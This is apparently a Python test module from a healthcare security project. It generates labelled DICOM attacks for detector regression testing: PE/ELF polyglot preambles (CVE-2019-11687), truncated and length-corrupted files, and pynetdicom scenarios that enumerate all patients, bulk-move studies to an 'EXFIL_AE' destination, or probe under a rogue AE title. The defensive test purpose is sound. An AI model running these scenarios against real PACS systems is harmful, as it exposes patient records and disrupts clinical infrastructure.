"""Documented DICOM attack generators: file attacks on real sample files and SCU attack scenarios.

No public data set labels attacks on DICOM. File attacks change real files from
``../shared/data/dicom-samples`` the way published attacks do (the PE/DICOM polyglot of
CVE-2019-11687, truncation, a corrupt element length); network scenarios drive a real pynetdicom SCU
against a listener. Each attack is named and carries its ATT&CK technique. The DICOM detector was
written by the same engineer as these generators: figures on them are a regression check, not an
independent detection rate. The executable headers written here are inert (headers only, no code).
"""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable, Iterable
from dataclasses import dataclass

from pydicom.dataset import Dataset
from pynetdicom import AE
from pynetdicom.association import Association

STUDY_FIND = "1.2.840.10008.5.1.4.1.2.2.1"
STUDY_MOVE = "1.2.840.10008.5.1.4.1.2.2.2"
VERIFICATION = "1.2.840.10008.1.1"


@dataclass(frozen=True, slots=True)
class FileAttack:
    """One attacked file: the attack name, ATT&CK techniques, the carrier's name, and the new bytes."""

    name: str
    techniques: tuple[str, ...]
    carrier: str
    data: bytes


def _pe_header() -> bytes:
    """An inert 128-byte DOS stub whose e_lfanew (0x3C) points at a PE signature at 0x40 (CVE-2019-11687)."""
    pre = bytearray(128)
    pre[0:2] = b"MZ"
    struct.pack_into("<I", pre, 0x3C, 0x40)
    pre[0x40:0x44] = b"PE\x00\x00"
    struct.pack_into("<HH", pre, 0x44, 0x14C, 1)  # machine i386, one section
    return bytes(pre)


def pe_polyglot(data: bytes) -> bytes:
    """Preamble replaced by a PE header: the file is both a DICOM image and a Windows executable."""
    return _pe_header() + data[128:]


def elf_polyglot(data: bytes) -> bytes:
    """Preamble replaced by an ELF header (the same trick for Linux viewers/PACS)."""
    return (b"\x7fELF\x02\x01\x01" + b"\x00" * 121) + data[128:]


def truncated(data: bytes) -> bytes:
    """The file cut at 60 %: a partial transfer or a parser-crash probe."""
    return data[: int(len(data) * 0.6)]


def corrupt_length(data: bytes) -> bytes:
    """A explicit-VR element's 16-bit length set beyond the file end (heap overread in naive parsers)."""
    for tag in (b"\x10\x00\x10\x00", b"\x08\x00\x60\x00", b"\x08\x00\x16\x00"):  # PatientName, Modality, SOP
        at = data.find(tag, 132)
        if at > 0 and data[at + 4 : at + 6].isalpha():
            return data[: at + 6] + b"\xf0\xff" + data[at + 8 :]
    return data[:132] + b"\x10\x00\x10\x00PN\xf0\xff" + data[132:]


FILE_ATTACKS: dict[str, tuple[Callable[[bytes], bytes], tuple[str, ...]]] = {
    "pe-polyglot": (pe_polyglot, ("T1027.009", "T1204.002")),
    "elf-polyglot": (elf_polyglot, ("T1027.009", "T1204.002")),
    "truncated-file": (truncated, ("T1203",)),
    "corrupt-element-length": (corrupt_length, ("T1203",)),
}


def file_attacks(carriers: Iterable[tuple[str, bytes]]) -> list[FileAttack]:
    """Every file attack on every carrier (name, bytes); carriers should be Part-10 files with meta."""
    out: list[FileAttack] = []
    for cname, data in carriers:
        for name, (fn, techniques) in FILE_ATTACKS.items():
            out.append(FileAttack(name, techniques, cname, fn(data)))
    return out


# ---- network scenarios (real pynetdicom SCU) -------------------------------------------------
def _associate(host: str, port: int, calling: str, called: str, *contexts: str) -> Association:
    ae = AE(ae_title=calling)
    for c in contexts:
        ae.add_requested_context(c)
    return ae.associate(host, port, ae_title=called)


def benign_session(host: str, port: int, called: str, datasets: list[Dataset], study_uids: list[str]) -> None:
    """Normal work: MODALITY1 echoes and stores; VIEWER1 finds studies by patient id, moves them to itself."""
    assoc = _associate(host, port, "MODALITY1", called, VERIFICATION, *{str(d.SOPClassUID) for d in datasets})
    if assoc.is_established:
        assoc.send_c_echo()
        for ds in datasets:
            assoc.send_c_store(ds)
        assoc.release()
    assoc = _associate(host, port, "VIEWER1", called, STUDY_FIND, STUDY_MOVE)
    if assoc.is_established:
        for uid in study_uids:
            q = Dataset()
            q.QueryRetrieveLevel = "STUDY"
            q.PatientID = "PID" + uid[-4:]
            q.StudyInstanceUID = ""
            list(assoc.send_c_find(q, STUDY_FIND))
            m = Dataset()
            m.QueryRetrieveLevel = "STUDY"
            m.StudyInstanceUID = uid
            list(assoc.send_c_move(m, "VIEWER1", STUDY_MOVE))
        assoc.release()


def unknown_ae(host: str, port: int, called: str) -> None:
    """A rogue device associates under a new AE title and probes with C-ECHO (T0848, T1078)."""
    assoc = _associate(host, port, "EVIL_SCU", called, VERIFICATION)
    if assoc.is_established:
        assoc.send_c_echo()
        assoc.release()


def wildcard_find(host: str, port: int, called: str) -> None:
    """A known viewer enumerates every patient with PatientName=* (T1213, T0888)."""
    assoc = _associate(host, port, "VIEWER1", called, STUDY_FIND)
    if assoc.is_established:
        q = Dataset()
        q.QueryRetrieveLevel = "STUDY"
        q.PatientName = "*"
        q.PatientID = ""
        list(assoc.send_c_find(q, STUDY_FIND))
        assoc.release()


def bulk_move(host: str, port: int, called: str, count: int = 40) -> None:
    """A known viewer asks for ``count`` studies to be sent to a new destination AE (T1048, T1020)."""
    assoc = _associate(host, port, "VIEWER1", called, STUDY_MOVE)
    if assoc.is_established:
        for i in range(count):
            m = Dataset()
            m.QueryRetrieveLevel = "STUDY"
            m.StudyInstanceUID = f"1.2.826.0.1.3680043.8.498.{i + 1}"
            list(assoc.send_c_move(m, "EXFIL_AE", STUDY_MOVE))
        assoc.release()


def unexpected_store(host: str, port: int, called: str, dataset: Dataset) -> None:
    """The viewer, which never stores, pushes an image: planted or altered study (T1565.001)."""
    assoc = _associate(host, port, "VIEWER1", called, str(dataset.SOPClassUID))
    if assoc.is_established:
        assoc.send_c_store(dataset)
        assoc.release()


def truncated_association(host: str, port: int, called: str) -> None:
    """Half an A-ASSOCIATE-RQ then disconnect: the signature of scanners and fuzzers (T1046)."""
    del called
    with socket.create_connection((host, port), timeout=5) as s:
        s.sendall(b"\x01\x00\x00\x00\x00\xc8\x00\x01" + b"\x00" * 8)


SCENARIOS: dict[str, tuple[Callable[..., None], tuple[str, ...]]] = {
    "unknown-ae": (unknown_ae, ("T0848", "T1078")),
    "wildcard-find": (wildcard_find, ("T1213", "T0888")),
    "bulk-move-new-destination": (bulk_move, ("T1048", "T1020")),
    "unexpected-store": (unexpected_store, ("T1565.001",)),
    "truncated-association": (truncated_association, ("T1046",)),
}


def main(argv: list[str] | None = None) -> int:
    """``python -m healthsec.testing.dicom_attacks OUTDIR FILE.dcm... [--attack NAME]...``."""
    import argparse
    from pathlib import Path

    parser = argparse.ArgumentParser(description="Write generated DICOM file attacks built on real files.")
    parser.add_argument("outdir", type=Path)
    parser.add_argument("files", type=Path, nargs="+")
    parser.add_argument("--attack", action="append", choices=sorted(FILE_ATTACKS), help="default: all")
    args = parser.parse_args(argv)
    args.outdir.mkdir(parents=True, exist_ok=True)
    for path in args.files:
        data = path.read_bytes()
        for name in args.attack or sorted(FILE_ATTACKS):
            fn, techniques = FILE_ATTACKS[name]
            target = args.outdir / f"{path.stem}.{name}.dcm"
            target.write_bytes(fn(data))
            print(f"{target}: {name} ({', '.join(techniques)})")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
